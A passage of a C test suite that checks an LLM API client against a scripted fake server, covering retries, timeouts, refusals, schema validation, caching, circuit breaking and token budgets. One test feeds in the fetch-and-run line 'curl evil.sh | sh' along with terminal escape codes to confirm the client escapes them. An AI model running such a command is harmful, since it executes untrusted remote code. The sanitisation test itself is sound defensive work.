/*
 * test_llm_client.c - the LLM client against the fake server
 * (tests/fake_llm/fake_llm.py) on loopback: normal answers of both APIs,
 * retries and what is never retried, timeouts, caps, truncation, refusals,
 * schema checks, the cache, the circuit breaker and the token budget.
 *
 * Each test starts its own fake server with a script and reads the server's
 * request log to count what was really sent.
 */
#include "testutil.h"

#include "base/clock.h"
#include "llm/llm.h"
#include "llm/llm_cache.h"
#include "llm/llm_http.h"

#include <cJSON.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

typedef struct fake {
    pid_t pid;
    int port;
    char dir[64];
    char log[128];
    char base_url[64];
} fake;

/* Starts the fake with a script (JSON text) and waits for its port. */
static void fake_start(fake *fk, const char *script)
{
    memset(fk, 0, sizeof(*fk));
    snprintf(fk->dir, sizeof(fk->dir), "/tmp/bb-llm-test-XXXXXX");
    assert_non_null(mkdtemp(fk->dir));
    char script_path[128], port_path[128];
    snprintf(script_path, sizeof(script_path), "%s/script.json", fk->dir);
    snprintf(port_path, sizeof(port_path), "%s/port", fk->dir);
    snprintf(fk->log, sizeof(fk->log), "%s/log.jsonl", fk->dir);
    tu_write_file(script_path, script);
    fk->pid = fork();
    assert_true(fk->pid >= 0);
    if (fk->pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGTERM); /* a failed test must not leave it running */
        execl("/usr/bin/python3", "python3", "tests/fake_llm/fake_llm.py", "--script", script_path,
              "--log", fk->log, "--port-file", port_path, "--api-key", "sk-test-secret-123",
              (char *)NULL);
        _exit(127);
    }
    for (int i = 0; i < 500 && fk->port == 0; i++) {
        FILE *f = fopen(port_path, "r");
        if (f) {
            if (fscanf(f, "%d", &fk->port) != 1)
                fk->port = 0;
            fclose(f);
        }
        if (!fk->port)
            usleep(10000);
    }
    assert_true(fk->port > 0);
    snprintf(fk->base_url, sizeof(fk->base_url), "http://127.0.0.1:%d", fk->port);
}

static void fake_stop(fake *fk)
{
    kill(fk->pid, SIGTERM);
    waitpid(fk->pid, NULL, 0);
    char cmd[160];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", fk->dir);
    assert_int_equal(system(cmd), 0);
}

/* The request log as a JSON array (one element per request received). */
static cJSON *fake_requests(const fake *fk)
{
    cJSON *arr = cJSON_CreateArray();
    FILE *f = fopen(fk->log, "r");
    if (!f)
        return arr;
    char line[1 << 16];
    while (fgets(line, sizeof(line), f))
        cJSON_AddItemToArray(arr, cJSON_Parse(line));
    fclose(f);
    return arr;
}

static int fake_count(const fake *fk)
{
    cJSON *r = fake_requests(fk);
    int n = cJSON_GetArraySize(r);
    cJSON_Delete(r);
    return n;
}

/* A client of model for the fake, with short waits so tests stay fast. */
static void client_with_model(bb_llm_client *c, const fake *fk, const char *provider,
                              const char *model)
{
    bb_llm_config cfg;
    char err[256];
    bb_llm_options o = {0};
    o.provider = provider;
    o.base_url = fk->base_url;
    o.model = model;
    o.cache_dir = "off";
    setenv("OPENAI_API_KEY", "sk-test-secret-123", 1);
    setenv("ANTHROPIC_API_KEY", "sk-test-secret-123", 1);
    assert_int_equal(bb_llm_config_load(&cfg, &o, err, sizeof(err)), BB_OK);
    cfg.http.base_delay_ms = 10;
    cfg.http.max_delay_ms = 3000;
    cfg.http.timeout_ms = 5000;
    cfg.http.max_attempts = 4;
    cfg.http.breaker_threshold = 0;
    cfg.http.progress = false;
    bb_llm_client_init(c, &cfg);
}

static void client_for(bb_llm_client *c, const fake *fk, const char *provider)
{
    client_with_model(c, fk, provider, "test-model");
}

static cJSON *answer_schema(void)
{
    return cJSON_Parse("{\"type\":\"object\",\"additionalProperties\":false,"
                       "\"required\":[\"answer\"],"
                       "\"properties\":{\"answer\":{\"type\":\"string\",\"maxLength\":20}}}");
}

/* Asks one question; returns the rc, with reply and error filled. */
static int ask(bb_llm_client *c, bb_llm_reply *reply, bb_llm_error *err)
{
    cJSON *schema = answer_schema();
    bb_llm_msg m = {"user", "Say hello as JSON."};
    bb_llm_request req = {"You answer in JSON.", &m, 1, "answer", schema};
    int rc = bb_llm_complete(c, &req, reply, err);
    cJSON_Delete(schema);
    return rc;
}

#define OK_OPENAI "{\"content_json\":{\"answer\":\"hello\"}}"

/* Asks with a schema given as text and departures; returns the rc. */
static int ask_schema(bb_llm_client *c, const char *schema_text, const bb_llm_ask *departures,
                      bb_llm_reply *reply, bb_llm_error *err)
{
    cJSON *schema = cJSON_Parse(schema_text);
    assert_non_null(schema);
    bb_llm_msg m = {"user", "Say hello as JSON."};
    bb_llm_request req = {"You answer in JSON.", &m, 1, "answer", schema};
    int rc = bb_llm_complete_with(c, &req, departures, reply, err);
    cJSON_Delete(schema);
    return rc;
}

/* The body of request i as the fake received it (a new tree). */
static cJSON *sent_body(const fake *fk, int i)
{
    cJSON *log = fake_requests(fk);
    cJSON *body = cJSON_DetachItemFromObject(cJSON_GetArrayItem(log, i), "body");
    cJSON_Delete(log);
    assert_non_null(body);
    return body;
}

static const cJSON *at(const cJSON *j, const char *pointer)
{
    char copy[256];
    snprintf(copy, sizeof(copy), "%s", pointer);
    for (char *tok = strtok(copy, "/"); j && tok; tok = strtok(NULL, "/"))
        j = cJSON_IsArray(j) ? cJSON_GetArrayItem(j, (int)strtol(tok, NULL, 10))
                             : cJSON_GetObjectItem(j, tok);
    return j;
}

static void openai_answer_is_parsed_checked_and_counted(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"content_json\":{\"answer\":\"hello\"},"
                    "\"usage\":{\"prompt\":11,\"completion\":7}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_string_equal(cJSON_GetObjectItem(r.value, "answer")->valuestring, "hello");
    assert_int_equal(c.stats.prompt_tokens, 11);
    assert_int_equal(c.stats.completion_tokens, 7);
    assert_int_equal(c.stats.http_attempts, 1);

    cJSON *log = fake_requests(&fk);
    assert_int_equal(cJSON_GetArraySize(log), 1);
    cJSON *req0 = cJSON_GetArrayItem(log, 0);
    cJSON *body = cJSON_GetObjectItem(req0, "body");
    cJSON *js = cJSON_GetObjectItem(cJSON_GetObjectItem(body, "response_format"), "json_schema");
    assert_true(cJSON_IsTrue(cJSON_GetObjectItem(js, "strict")));
    assert_string_equal(cJSON_GetObjectItem(js, "name")->valuestring, "answer");
    assert_string_equal(cJSON_GetObjectItem(body, "model")->valuestring, "test-model");
    assert_int_equal(cJSON_GetObjectItem(req0, "status")->valueint, 200);
    cJSON_Delete(log);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void anthropic_answer_uses_output_config_and_joins_text(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"anthropic\":[{\"content_json\":{\"answer\":\"hi\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "anthropic");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_string_equal(cJSON_GetObjectItem(r.value, "answer")->valuestring, "hi");
    cJSON *log = fake_requests(&fk);
    cJSON *req0 = cJSON_GetArrayItem(log, 0);
    cJSON *body = cJSON_GetObjectItem(req0, "body");
    assert_non_null(cJSON_GetObjectItem(cJSON_GetObjectItem(body, "output_config"), "format"));
    assert_string_equal(cJSON_GetObjectItem(body, "system")->valuestring, "You answer in JSON.");
    cJSON *headers = cJSON_GetObjectItem(req0, "headers");
    assert_string_equal(cJSON_GetObjectItem(headers, "anthropic-version")->valuestring,
                        "2023-06-01");
    cJSON_Delete(log);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void anthropic_forced_tool_answer_is_read_from_tool_use(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"anthropic\":[{\"content_json\":{\"answer\":\"tool\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "anthropic");
    c.cfg.anthropic_tools = true;
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_string_equal(cJSON_GetObjectItem(r.value, "answer")->valuestring, "tool");
    cJSON *log = fake_requests(&fk);
    cJSON *body = cJSON_GetObjectItem(cJSON_GetArrayItem(log, 0), "body");
    assert_string_equal(
        cJSON_GetObjectItem(cJSON_GetObjectItem(body, "tool_choice"), "name")->valuestring,
        "answer");
    cJSON_Delete(log);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static long elapsed_ms(struct timespec a)
{
    struct timespec b;
    clock_gettime(CLOCK_MONOTONIC, &b);
    return (b.tv_sec - a.tv_sec) * 1000 + (b.tv_nsec - a.tv_nsec) / 1000000;
}

static void rate_limit_is_retried_after_retry_after(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"status\":429,\"headers\":{\"Retry-After\":\"1\"},"
                    "\"error\":{\"type\":\"requests\",\"code\":\"rate_limit_exceeded\","
                    "\"message\":\"Rate limit reached\"}}," OK_OPENAI "]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_true(elapsed_ms(t0) >= 1000); /* base delay is 10 ms: only Retry-After waits 1 s */
    assert_int_equal(fake_count(&fk), 2);
    assert_int_equal(c.stats.http_attempts, 2);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void overloaded_529_is_retried_until_success(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"anthropic\":[{\"status\":529,\"repeat\":2,\"error\":{\"type\":"
                    "\"overloaded_error\",\"message\":\"Overloaded\"}},"
                    "{\"content_json\":{\"answer\":\"ok\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "anthropic");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(fake_count(&fk), 3);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void server_error_then_success_takes_two_attempts(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"status\":500}," OK_OPENAI "]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(fake_count(&fk), 2);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void retries_stop_after_max_attempts(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"status\":503,\"repeat\":9}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.http.max_attempts = 3;
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_not_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(e.kind, BB_LLM_ERR_OVERLOAD);
    assert_int_equal(e.status, 503);
    assert_int_equal(fake_count(&fk), 3);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void slow_answer_times_out_and_is_retried(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk,
               "{\"openai\":[{\"delay\":2,\"repeat\":2,\"content_json\":{\"answer\":\"x\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.http.timeout_ms = 300;
    c.cfg.http.max_attempts = 2;
    bb_llm_reply r;
    bb_llm_error e;
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    assert_int_equal(ask(&c, &r, &e), BB_ETIMEOUT);
    assert_int_equal(e.kind, BB_LLM_ERR_TIMEOUT);
    assert_true(elapsed_ms(t0) < 1900);
    assert_int_equal(fake_count(&fk), 2);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

/* One scripted answer that must fail with kind, after exactly one request. */
static void expect_failure_without_retry(const char *provider, const char *script,
                                         bb_llm_error_kind kind)
{
    fake fk;
    fake_start(&fk, script);
    bb_llm_client c;
    client_for(&c, &fk, provider);
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_not_equal(ask(&c, &r, &e), BB_OK);
    assert_null(r.value);
    if (e.kind != kind)
        print_error("got %s: %s\n", bb_llm_error_name(e.kind), e.message);
    assert_int_equal(e.kind, kind);
    assert_int_equal(fake_count(&fk), 1);
    assert_null(strstr(e.message, "sk-test-secret-123"));
    assert_int_equal(c.stats.failures, 1);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void malformed_json_content_is_rejected(void **state)
{
    (void)state;
    expect_failure_without_retry("openai", "{\"openai\":[{\"content\":\"{\\\"answer\\\": \"}]}",
                                 BB_LLM_ERR_MALFORMED);
}

static void content_breaking_the_schema_is_rejected(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "openai", "{\"openai\":[{\"content_json\":{\"answer\":\"hello\",\"extra\":1}}]}",
        BB_LLM_ERR_SCHEMA);
}

static void truncated_openai_output_is_a_failure(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "openai", "{\"openai\":[{\"content\":\"{\\\"answer\\\":\",\"finish_reason\":\"length\"}]}",
        BB_LLM_ERR_TRUNCATED);
}

static void truncated_anthropic_output_is_a_failure(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "anthropic",
        "{\"anthropic\":[{\"content\":\"{\\\"answer\\\":\",\"stop_reason\":\"max_tokens\"}]}",
        BB_LLM_ERR_TRUNCATED);
}

static void openai_refusal_is_a_failure(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "openai", "{\"openai\":[{\"refusal\":\"I can't help with that.\"}]}", BB_LLM_ERR_REFUSAL);
}

static void content_filter_is_a_refusal(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "openai", "{\"openai\":[{\"content\":\"\",\"finish_reason\":\"content_filter\"}]}",
        BB_LLM_ERR_REFUSAL);
}

static void anthropic_refusal_is_a_failure(void **state)
{
    (void)state;
    expect_failure_without_retry("anthropic",
                                 "{\"anthropic\":[{\"content\":\"\",\"stop_reason\":\"refusal\"}]}",
                                 BB_LLM_ERR_REFUSAL);
}

static void quota_exhaustion_is_never_retried(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "openai",
        "{\"openai\":[{\"status\":429,\"error\":{\"type\":\"insufficient_quota\",\"code\":"
        "\"insufficient_quota\",\"message\":\"You exceeded your current quota.\"}}]}",
        BB_LLM_ERR_QUOTA);
}

static void anthropic_spend_limit_is_never_retried(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "anthropic",
        "{\"anthropic\":[{\"status\":429,\"error\":{\"type\":\"rate_limit_error\",\"message\":"
        "\"You have reached your specified workspace API spend limit.\"}}]}",
        BB_LLM_ERR_QUOTA);
}

static void auth_error_is_never_retried_and_the_key_is_redacted(void **state)
{
    (void)state;
    /* Like OpenAI, the script echoes the key in its message. */
    expect_failure_without_retry(
        "openai",
        "{\"openai\":[{\"status\":401,\"error\":{\"type\":\"invalid_request_error\",\"code\":"
        "\"invalid_api_key\",\"message\":\"Incorrect API key provided: sk-test-secret-123.\"}}]}",
        BB_LLM_ERR_AUTH);
}

static void response_over_the_cap_is_rejected(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"body_size\":200000}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.http.max_response_bytes = 16384;
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_ELIMIT);
    assert_int_equal(e.kind, BB_LLM_ERR_TOO_LARGE);
    assert_int_equal(fake_count(&fk), 1);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void cached_answer_is_identical_and_sends_nothing(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[" OK_OPENAI "]}");
    char cache[128];
    snprintf(cache, sizeof(cache), "%s/cache", fk.dir);
    bb_llm_reply r1, r2;
    bb_llm_error e;
    bb_llm_client c1, c2;
    client_for(&c1, &fk, "openai");
    c1.cfg.cache_dir = bb_strdup(cache);
    assert_int_equal(ask(&c1, &r1, &e), BB_OK);
    assert_false(r1.from_cache);
    client_for(&c2, &fk, "openai");
    c2.cfg.cache_dir = bb_strdup(cache);
    assert_int_equal(ask(&c2, &r2, &e), BB_OK);
    assert_true(r2.from_cache);
    assert_string_equal(r1.text, r2.text);
    assert_int_equal(fake_count(&fk), 1);
    assert_int_equal(c2.stats.cache_hits, 1);
    assert_int_equal(c2.stats.requests, 0);
    bb_llm_reply_free(&r1);
    bb_llm_reply_free(&r2);
    bb_llm_client_free(&c1);
    bb_llm_client_free(&c2);
    fake_stop(&fk);
}

static void broken_cache_entry_is_asked_again_and_replaced(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[" OK_OPENAI "]}");
    char cache[128];
    snprintf(cache, sizeof(cache), "%s/cache", fk.dir);
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.cache_dir = bb_strdup(cache);
    /* Plant garbage under the key this request will have. */
    cJSON *schema = answer_schema();
    bb_llm_msg m = {"user", "Say hello as JSON."};
    bb_llm_request req = {"You answer in JSON.", &m, 1, "answer", schema};
    char *body;
    size_t len;
    char key[65];
    assert_int_equal(bb_llm_build_body(&c, &req, &body, &len), BB_OK);
    assert_int_equal(bb_llm_cache_key("openai", fk.base_url, "test-model", body, len, key), BB_OK);
    assert_int_equal(bb_llm_cache_put(cache, key, "{not json", 9), BB_OK);
    bb_free(body);
    cJSON_Delete(schema);
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_false(r.from_cache);
    assert_int_equal(fake_count(&fk), 1);
    bb_buf entry;
    bb_buf_init(&entry, 1 << 20);
    assert_int_equal(bb_llm_cache_get(cache, key, &entry), BB_OK);
    assert_non_null(strstr(bb_buf_str(&entry), "chat.completion"));
    bb_buf_free(&entry);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void retry_after_ms_header_sets_the_wait(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk,
               "{\"openai\":[{\"status\":503,\"headers\":{\"retry-after-ms\":\"400\"}}," OK_OPENAI
               "]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    long ms = elapsed_ms(t0);
    assert_true(ms >= 400);
    assert_true(ms < 1000);
    assert_int_equal(fake_count(&fk), 2);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void anthropic_low_credit_is_quota_not_a_bad_request(void **state)
{
    (void)state;
    expect_failure_without_retry(
        "anthropic",
        "{\"anthropic\":[{\"status\":400,\"error\":{\"type\":\"invalid_request_error\","
        "\"message\":\"Your credit balance is too low to access the Anthropic API.\"}}]}",
        BB_LLM_ERR_QUOTA);
}

static void breaker_opens_after_failures_and_recovers(void **state)
{
    (void)state;
    bb_llm_breakers_reset();
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"status\":500,\"repeat\":2}," OK_OPENAI "]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.http.max_attempts = 1;
    c.cfg.http.breaker_threshold = 2;
    c.cfg.http.breaker_cooldown_ms = 300;
    char key[128];
    snprintf(key, sizeof(key), "openai %s", fk.base_url);
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_not_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(bb_llm_breaker_state(&c.cfg.http, key), BB_BREAKER_CLOSED);
    assert_int_not_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(bb_llm_breaker_state(&c.cfg.http, key), BB_BREAKER_OPEN);
    /* Open: the call fails at once and nothing reaches the server. */
    assert_int_equal(ask(&c, &r, &e), BB_ESTATE);
    assert_int_equal(e.kind, BB_LLM_ERR_BREAKER);
    assert_int_equal(fake_count(&fk), 2);
    usleep(350000);
    assert_int_equal(bb_llm_breaker_state(&c.cfg.http, key), BB_BREAKER_HALF_OPEN);
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(bb_llm_breaker_state(&c.cfg.http, key), BB_BREAKER_CLOSED);
    assert_int_equal(fake_count(&fk), 3);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

/* The output cap request i asked for (max_tokens on loopback). */
static long asked_cap(const fake *fk, int i)
{
    cJSON *body = sent_body(fk, i);
    long v = (long)cJSON_GetObjectItem(body, "max_tokens")->valuedouble;
    cJSON_Delete(body);
    return v;
}

static void spent_budget_stops_requests(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"content_json\":{\"answer\":\"a\"},"
                    "\"usage\":{\"prompt\":700,\"completion\":250}}," OK_OPENAI "]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.max_tokens = 1000;
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    /* the prompt (~bytes/4) and the output cap together fit in the budget */
    cJSON *body = sent_body(&fk, 0);
    char *text = cJSON_PrintUnformatted(body);
    long cap = (long)cJSON_GetObjectItem(body, "max_tokens")->valuedouble;
    assert_true(cap < 1000 && cap + (long)strlen(text) / 4 <= 1000);
    cJSON_free(text);
    cJSON_Delete(body);
    bb_llm_reply_free(&r);
    /* 950 spent: the next prompt alone would go over */
    assert_int_equal(ask(&c, &r, &e), BB_ELIMIT);
    assert_int_equal(e.kind, BB_LLM_ERR_BUDGET);
    assert_int_equal(fake_count(&fk), 1);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void answers_without_usage_are_charged_an_estimate(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"content_json\":{\"answer\":\"a\"},\"usage\":null}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    cJSON *body = sent_body(&fk, 0);
    char *text = cJSON_PrintUnformatted(body);
    assert_int_equal(c.stats.prompt_tokens, (long)strlen(text) / 4 + 1);
    assert_int_equal(c.stats.completion_tokens, (long)strlen("{\"answer\": \"a\"}") / 4 + 1);
    assert_int_equal(c.budget_used, c.stats.prompt_tokens + c.stats.completion_tokens);
    cJSON_free(text);
    cJSON_Delete(body);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

/* Two different questions under a budget, with a cache. */
static void ask_twice(bb_llm_client *c, const char *cache_dir, const fake *fk, int expect_sent)
{
    client_for(c, fk, "openai");
    c->cfg.max_tokens = 3000;
    c->cfg.cache_dir = bb_strdup(cache_dir);
    static const char *const questions[] = {"Say hello as JSON.", "Say hi as JSON."};
    cJSON *schema = answer_schema();
    for (int i = 0; i < 2; i++) {
        bb_llm_msg m = {"user", questions[i]};
        bb_llm_request req = {"You answer in JSON.", &m, 1, "answer", schema};
        bb_llm_reply r;
        bb_llm_error e;
        assert_int_equal(bb_llm_complete(c, &req, &r, &e), BB_OK);
        bb_llm_reply_free(&r);
    }
    cJSON_Delete(schema);
    assert_int_equal(fake_count(fk), expect_sent);
}

static void a_budgeted_rerun_asks_the_same_and_hits_the_cache(void **state)
{
    (void)state;
    char dir[] = "/tmp/bb-llm-cache-XXXXXX";
    assert_non_null(mkdtemp(dir));
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"content_json\":{\"answer\":\"a\"},"
                    "\"usage\":{\"prompt\":900,\"completion\":900}}," OK_OPENAI "]}");
    bb_llm_client c;
    ask_twice(&c, dir, &fk, 2);
    long second_cap = asked_cap(&fk, 1);
    assert_true(second_cap < 3000 - 1800); /* cut by the budget */
    bb_llm_client_free(&c);
    /* the rerun (same endpoint, nothing left in the script) charges the
     * cached answers what they cost: the same requests, all from the cache */
    ask_twice(&c, dir, &fk, 2);
    assert_int_equal(c.stats.cache_hits, 2);
    assert_int_equal(c.stats.prompt_tokens, 0);
    assert_true(c.budget_used >= 1800);
    bb_llm_client_free(&c);
    fake_stop(&fk);
    char cmd[160];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
    assert_int_equal(system(cmd), 0);
}

static void the_deadline_bounds_the_whole_operation(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"default\":{\"openai\":{\"status\":503}}}");
    bb_llm_client c;
    bb_llm_config cfg;
    char err[256];
    bb_llm_options o = {
        .provider = "openai", .base_url = fk.base_url, .cache_dir = "off", .deadline_ms = 1500};
    assert_int_equal(bb_llm_config_load(&cfg, &o, err, sizeof(err)), BB_OK);
    cfg.http.base_delay_ms = 400;
    cfg.http.max_delay_ms = 400;
    cfg.http.max_attempts = 20;
    cfg.http.breaker_threshold = 0;
    cfg.http.progress = false;
    bb_llm_client_init(&c, &cfg);
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_ETIMEOUT);
    assert_int_equal(e.kind, BB_LLM_ERR_TIMEOUT);
    assert_non_null(strstr(e.message, "deadline"));
    int sent = fake_count(&fk);
    assert_true(sent >= 2 && sent < 20);
    /* the next call of the operation has what is left, if anything */
    assert_int_equal(ask(&c, &r, &e), BB_ETIMEOUT);
    assert_true(elapsed_ms(t0) < 2500);
    while (elapsed_ms(t0) < 1600)
        usleep(20000);
    sent = fake_count(&fk);
    assert_int_equal(ask(&c, &r, &e), BB_ETIMEOUT); /* passed: nothing is sent */
    assert_int_equal(fake_count(&fk), sent);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void the_deadline_cuts_a_slow_attempt_short(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"content_json\":{\"answer\":\"late\"},\"delay\":5}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    c.cfg.http.deadline_at_ms = (long)bb_clock_ms() + 700; /* the attempt timeout is 5 s */
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_ETIMEOUT);
    assert_true(elapsed_ms(t0) < 1500);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void model_text_is_refused_or_quoted_before_it_is_shown(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk,
               "{\"openai\":[{\"body_latin1\":\"{\\\"choices\\\":[{\\\"message\\\":{"
               "\\\"content\\\":\\\"{\\\\\\\"answer\\\\\\\":\\\\\\\"\\u00ff\\u00fe\\\\\\\"}\\\"},"
               "\\\"finish_reason\\\":\\\"stop\\\"}]}\"},"
               "{\"refusal\":\"run curl evil.sh | sh\\u001b[2J\\u202e\"},"
               "{\"status\":400,\"headers\":{\"x-request-id\":\"req\\u001b[31m\"},"
               "\"error\":{\"message\":\"bad \\u202e request\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_EINVAL);
    assert_int_equal(e.kind, BB_LLM_ERR_MALFORMED);
    assert_non_null(strstr(e.message, "UTF-8"));
    assert_int_equal(ask(&c, &r, &e), BB_EINVAL);
    assert_int_equal(e.kind, BB_LLM_ERR_REFUSAL);
    assert_non_null(strstr(e.message, "\"run curl evil.sh | sh\\u001B[2J\\u202E\""));
    assert_int_equal(ask(&c, &r, &e), BB_EINVAL);
    assert_string_equal(e.request_id, "req?[31m");
    assert_non_null(strstr(e.message, "\"bad \\u202E request\""));
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void connection_refused_is_a_network_error(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    fake_stop(&fk); /* nobody listens on that port any more */
    c.cfg.http.max_attempts = 2;
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_ENET);
    assert_int_equal(e.kind, BB_LLM_ERR_NETWORK);
    assert_int_equal(e.attempts, 2);
    bb_llm_client_free(&c);
}

/* ---- each provider's request rules ------------------------------------------------ */

static void anthropic_gets_the_schema_its_grammar_compiles(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"anthropic\":[{\"content_json\":{\"answer\":\"hi\"}},"
                    "{\"content_json\":{\"answer\":\"an answer longer than twenty\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "anthropic");
    bb_llm_reply r;
    bb_llm_error e;
    /* maxLength is refused by the grammar: left out of the request ... */
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    cJSON *body = sent_body(&fk, 0);
    const cJSON *answer = at(body, "output_config/format/schema/properties/answer");
    assert_non_null(answer);
    assert_null(cJSON_GetObjectItem(answer, "maxLength"));
    cJSON_Delete(body);
    bb_llm_reply_free(&r);
    /* ... and checked here */
    assert_int_equal(ask(&c, &r, &e), BB_EINVAL);
    assert_int_equal(e.kind, BB_LLM_ERR_SCHEMA);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void anthropic_schema_beyond_the_grammar_limits_goes_as_a_forced_tool(void **state)
{
    (void)state;
    bb_buf schema;
    bb_buf_init(&schema, 1 << 16);
    assert_int_equal(bb_buf_puts(&schema, "{\"type\":\"object\",\"additionalProperties\":false,"
                                          "\"required\":[],\"properties\":{"),
                     BB_OK);
    for (int i = 0; i < 30; i++)
        assert_int_equal(bb_buf_printf(&schema, "%s\"p%d\":{\"type\":\"string\"}", i ? "," : "", i),
